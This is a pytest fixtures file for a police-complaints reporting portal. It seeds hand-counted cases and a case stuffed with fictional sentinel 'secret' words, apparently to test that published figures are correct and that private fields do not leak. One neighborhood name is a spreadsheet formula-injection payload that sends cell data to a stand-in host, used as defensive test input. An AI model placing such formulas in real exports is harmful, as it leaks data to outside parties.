"""A hand-made set of cases whose published figures are worked out by hand in the tests."""

import io
import os
from datetime import timedelta

import pytest
from cryptography.fernet import Fernet
from pypdf import PdfReader

from complaints.models import Allegation, BoardReview, Complaint, ComplaintOfficer, Witness
from portal.localtime import local_today
from portal.models import Neighborhood, Officer

# A worker (tests marked `worker`) reads its settings from the environment when it starts.
os.environ.setdefault("COMPLAINTS_ENCRYPTION_KEYS", Fernet.generate_key().decode())


@pytest.fixture(autouse=True)
def _complaints_keys(settings):
    settings.COMPLAINTS_ENCRYPTION_KEYS = os.environ["COMPLAINTS_ENCRYPTION_KEYS"].split(",")


SECRET_WORDS = [
    "Zephyrine Quackenbush",  # complainant
    "zq@example.org",
    "555-0199-7788",
    "12 Larkspur Lane",
    "my cousin Orrin Vale",  # on behalf of
    "Threw my phone in the canal",  # what
    "corner of Tallow and Vine",  # where
    "Tuesday at 3:14 in the morning",  # when
    "Written reprimand for Sgt Okonkwo",  # outcome_summary
    "Insulted the driver repeatedly",  # allegation summary
    "The board finds the interview notes thin",  # reasons
    "Retrain the night shift on stops",  # recommendation
    "Bartholomew Nightjar",  # witness
    "Officer Grimsditch",  # officer's name
    "the tall one with the scar",  # description given
]


def make_case(kind, *, month, neighborhood=None, **fields):
    return Complaint.objects.create(
        kind=kind,
        filing="named",
        what="A",
        received_month=month,
        neighborhood=neighborhood,
        **fields,
    )


@pytest.fixture
def months():
    this = local_today().replace(day=1)
    last = (this - timedelta(days=1)).replace(day=1)
    return this, last


@pytest.fixture
def hand_cases(db, months):
    """This month, Riverside: 6 complaints (closed today after 10..60 days, a sustained
    courtesy allegation each; the board agreed on 5 and disagreed on 5 cases... see below) and
    8 commendations. Last month, no neighborhood: 7 open complaints (an improper-procedure
    allegation each) and 2 commendations. A neighborhood named like a spreadsheet formula has
    none."""
    this, last = months
    today = local_today()
    # get_or_create: a browser test interrupted before its flush leaves them behind.
    riverside, _ = Neighborhood.objects.get_or_create(
        slug="riverside", defaults={"name": "Riverside", "order": 1}
    )
    Neighborhood.objects.get_or_create(
        slug="f", defaults={"name": '=HYPERLINK("http://x.example/?"&A1)', "order": 2}
    )
    closed = []
    for days in (10, 20, 30, 40, 50, 60):
        case = make_case(
            "complaint",
            month=this,
            neighborhood=riverside,
            stage="closed",
            closed_on=today,
            days_to_close=days,
            outcome="training",
        )
        Allegation.objects.create(
            complaint=case, category="courtesy", summary="s", finding="sustained"
        )
        closed.append(case)
    for _n in range(8):
        make_case(
            "commendation",
            month=this,
            neighborhood=riverside,
            stage="closed",
            closed_on=today,
            outcome="delivered",
        )
    for _n in range(7):
        case = make_case("complaint", month=last, stage="investigation")
        Allegation.objects.create(complaint=case, category="procedure", summary="s")
    for _n in range(2):
        make_case("commendation", month=last, stage="closed", closed_on=today, outcome="delivered")
    # The board: 5 agreements and 5 disagreements this quarter (10 older closed cases).
    for n in range(10):
        case = make_case("complaint", month=this.replace(year=this.year - 5), stage="closed")
        BoardReview.objects.create(
            complaint=case, position="agree" if n < 5 else "disagree", reviewed_on=today
        )
    return {"riverside": riverside, "closed": closed}


@pytest.fixture
def secret_case(db, months):
    """A case with something only internal affairs may read in every private field."""
    this, _last = months
    words = iter(SECRET_WORDS)
    case = Complaint.objects.create(
        kind="complaint",
        filing="on_behalf",
        received_month=this,
        complainant_name=next(words),
        complainant_email=next(words),
        complainant_phone=next(words),
        complainant_address=next(words),
        on_behalf_of=next(words),
        what=next(words),
        where=next(words),
        when=next(words),
        outcome_summary=next(words),
        stage="closed",
        closed_on=local_today(),
        days_to_close=3,
    )
    officer = Officer.objects.create(name=SECRET_WORDS[13])
    link = ComplaintOfficer.objects.create(
        complaint=case, officer=officer, description=SECRET_WORDS[14]
    )
    Allegation.objects.create(
        complaint=case,
        officer=link,
        category="bias",
        summary=SECRET_WORDS[9],
        finding="sustained",
    )
    BoardReview.objects.create(
        complaint=case,
        position="disagree",
        reasons=SECRET_WORDS[10],
        recommendation=SECRET_WORDS[11],
        reviewed_on=local_today(),
    )
    Witness.objects.create(complaint=case, name=SECRET_WORDS[12])
    return case


def pdf_text(data: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)
